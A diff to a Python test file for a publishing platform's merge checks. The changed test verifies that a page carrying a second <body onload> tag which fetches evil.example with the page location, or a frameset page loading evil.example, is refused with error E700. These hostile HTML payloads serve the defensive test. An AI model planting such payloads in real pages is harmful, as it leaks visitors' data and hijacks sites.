@@ -213,16 +213,19 @@ def test_what_the_theme_prints_into_the_body_tag_is_checked(tmp_path):
 
 def test_a_unit_page_whose_body_tag_runs_a_script_is_refused(platform):
     """The compromised job's side: a page of its own output (listed and sealed) whose <body> (or a second <body> tag
-    further down, whose attributes a browser adds to the page's body) runs a script on loading. The merge read
-    the page as a fragment, without them, and merged it."""
+    further down, whose attributes a browser adds to the page's body) runs a script on loading, or a page of frames
+    (no <body>: the browser shows another host's page in its place). The merge read the page as a fragment, without
+    these tags, and merged it."""
     from disclosure.platform.unit_manifest import seal_unit_manifest
 
     from .test_merge_verifies import refused
     page = platform / "build/units/jyj/jyj/guide/guide/index.html"
     text = page.read_text(encoding="utf-8")
-    page.write_text(text.replace("</body>", '<body onload="fetch(\'//evil.example/\'+location)"></body>', 1), encoding="utf-8")
-    seal_unit_manifest(platform / "build/units/jyj", "jyj")
-    refused(platform, "build/units/jyj/jyj/guide/guide/index.html:1: E700 ")
+    frames = '<!doctype html><html><head><title>教育局指南</title></head><frameset><frame src="https://evil.example/"></frameset></html>'
+    for hostile in (text.replace("</body>", '<body onload="fetch(\'//evil.example/\'+location)"></body>', 1), frames):
+        page.write_text(hostile, encoding="utf-8")
+        seal_unit_manifest(platform / "build/units/jyj", "jyj")
+        refused(platform, "build/units/jyj/jyj/guide/guide/index.html:1: E700 ")
 
 
 def test_a_theme_icon_holding_template_marks_is_refused(tmp_path):
